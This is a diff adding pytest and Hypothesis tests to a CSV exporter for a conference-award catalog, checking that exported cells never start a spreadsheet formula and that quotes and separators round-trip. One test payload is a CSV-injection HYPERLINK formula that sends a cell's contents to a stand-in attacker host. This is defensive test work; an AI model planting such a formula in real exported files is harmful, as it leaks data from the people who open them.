@@ -1,8 +1,15 @@
 from __future__ import annotations
 
+import csv
+import io
+import tempfile
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, assume, event, given, settings
+from hypothesis import strategies as st
+from pydantic import ValidationError
 
 from bot.catalog.document import DocumentError
 from bot.catalog.importers import csv_format
@@ -211,7 +218,144 @@ def test_round_trip(tmp_path: Path) -> None:
     assert csv_format.write(again) == text
 
 
-def test_write_refuses_what_would_not_read_back() -> None:
-    award = _award("T", authors=["Smith; John"])
-    with pytest.raises(DocumentError, match="authors contains “;”"):
-        csv_format.write(CatalogBatch(awards=(award,)))
+# -- formulas and separators: any stored value exports and reads back unchanged -------------
+
+# What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+TEXT_CELLS: dict[str, Callable[[str], dict[str, object]]] = {
+    "award": lambda v: {"name": v},
+    "track": lambda v: {"track": v},
+    "title": lambda v: {"paper": {"title": v}},
+    "authors": lambda v: {"paper": {"title": "T", "authors": [v, "Second Author"]}},
+    "affiliations": lambda v: {"paper": {"title": "T", "affiliations": [v]}},
+    "abstract": lambda v: {"paper": {"title": "T", "abstract": v}},
+    "summary_zh_tw": lambda v: {"paper": {"title": "T", "summaries": {"zh-TW": v}}},
+}
+
+
+def _award_with(fields: dict[str, object]) -> Award:
+    record: dict[str, object] = {"venue": "icml", "year": 2025, "name": "Best Paper"}
+    record |= {"kind": "best", "paper": {"title": "T"}} | fields
+    return Award.model_validate(record)
+
+
+def _cells(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("column", TEXT_CELLS)
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_no_written_cell_starts_a_formula(tmp_path: Path, column: str, start: str) -> None:
+    payload = f'{start}HYPERLINK("https://evil.example/?x="&A1,"click")'
+    try:
+        award = _award_with(TEXT_CELLS[column](payload))
+    except ValidationError:
+        pytest.skip(f"the model does not store a {column} starting with {start!r}")
+    text = csv_format.write(CatalogBatch(awards=(award,)))
+
+    (row,) = _cells(text)
+    for name, cell in row.items():
+        assert not cell.startswith(FORMULA_STARTS), (name, cell)
+    if start.strip():  # (a leading tab or CR is white space the model trims when it stores)
+        assert row[column].startswith("'")
+    assert csv_format.parse(_file(tmp_path, text)).awards == (award,)
+
+
+@pytest.mark.parametrize(
+    "value", ["'Tis a real quote", "''", "'=not a formula", "'", "it's", "O'Brien; Jr"]
+)
+def test_a_real_leading_quote_survives_the_round_trip(tmp_path: Path, value: str) -> None:
+    award = _award_with({"paper": {"title": value, "authors": [value]}})
+    text = csv_format.write(CatalogBatch(awards=(award,)))
+
+    assert csv_format.parse(_file(tmp_path, text)).awards == (award,)
+
+
+def test_hand_written_cells_read_as_a_spreadsheet_shows_them(tmp_path: Path) -> None:
+    text = "venue,year,award,title,authors\nicml,2025,Best,'Tis so,'=Eve; 'Tis\\; Bob; C:\\x\n"
+
+    (award,) = csv_format.parse(_file(tmp_path, text)).awards
+
+    assert award.paper.title == "'Tis so"  # only a quote before a formula start or a quote goes
+    assert award.paper.authors == ("=Eve", "'Tis; Bob", "C:\\x")
+
+
+@pytest.mark.parametrize(
+    "names",
+    [("Smith; John",), ("A;B", ";", "C"), ("back\\slash", "\\;", "end\\"), ("x\\\\;y",)],
+    ids=["one", "several", "backslashes", "escaped-escape"],
+)
+def test_a_separator_inside_a_name_round_trips(tmp_path: Path, names: tuple[str, ...]) -> None:
+    try:
+        award = _award_with(
+            {"paper": {"title": "T", "authors": list(names), "affiliations": list(names)}}
+        )
+    except ValidationError:
+        pytest.skip("the model does not store these names")
+    text = csv_format.write(CatalogBatch(awards=(award,)))
+
+    again = csv_format.parse(_file(tmp_path, text))
+    assert again.rejected == ()
+    assert again.awards == (award,)
+    assert again.awards[0].paper.authors == names
+
+
+# Text that stresses every rule at once: separators, escapes, quotes, formula starts,
+# line breaks, commas and scripts other than Latin.
+_TRICKY = st.text(
+    alphabet=st.one_of(
+        st.sampled_from(list(";\\'\"=+-@\t\r\n, 漢字é")),
+        st.characters(categories=["L", "N", "P", "S", "Zs"], codec="utf-8"),
+    ),
+    min_size=1,
+    max_size=30,
+)
+# A piece of text with a troublemaker before it or inside it: a separator, an escape, a quote,
+# a formula start.
+_MARKS = st.sampled_from([";", "\\;", "\\", "\\\\", "'", "''", "=", "+", "-", "@", '"'])
+_MARKED = st.one_of(
+    st.builds(lambda mark, text: mark + text, _MARKS, _TRICKY),
+    st.builds(lambda a, mark, b: a + mark + b, _TRICKY, _MARKS, _TRICKY),
+)
+_TEXT = st.one_of(_TRICKY, _MARKED)
+
+
+@given(
+    title=_TEXT,
+    authors=st.lists(_TEXT, max_size=4),
+    affiliations=st.lists(_TEXT, max_size=3),
+    abstract=st.one_of(st.none(), _TEXT),
+    track=st.one_of(st.none(), _TEXT),
+    name=_TEXT,
+    summary=st.one_of(st.none(), _TEXT),
+)
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
+def test_any_stored_award_exports_and_reads_back_unchanged(
+    title: str,
+    authors: list[str],
+    affiliations: list[str],
+    abstract: str | None,
+    track: str | None,
+    name: str,
+    summary: str | None,
+) -> None:
+    paper: dict[str, object] = {"title": title, "authors": authors, "affiliations": affiliations}
+    if abstract is not None:
+        paper["abstract"] = abstract
+    if summary is not None:
+        paper["summaries"] = {"zh-CN": summary}
+    try:  # what the store can hold is what the model accepts
+        award = _award_with({"name": name, "track": track, "paper": paper})
+    except ValidationError:
+        assume(False)
+        return
+    event("author with ;" if any(";" in a for a in award.paper.authors) else "no ;")
+    event("formula start" if award.paper.title.startswith(FORMULA_STARTS) else "plain title")
+    text = csv_format.write(CatalogBatch(awards=(award,)))
+    with tempfile.TemporaryDirectory() as folder:
+        again = csv_format.parse(_file(Path(folder), text))
+
+    assert again.rejected == ()
+    assert again.awards == (award,)
+    for cell in _cells(text)[0].values():
+        assert not cell.startswith(FORMULA_STARTS)
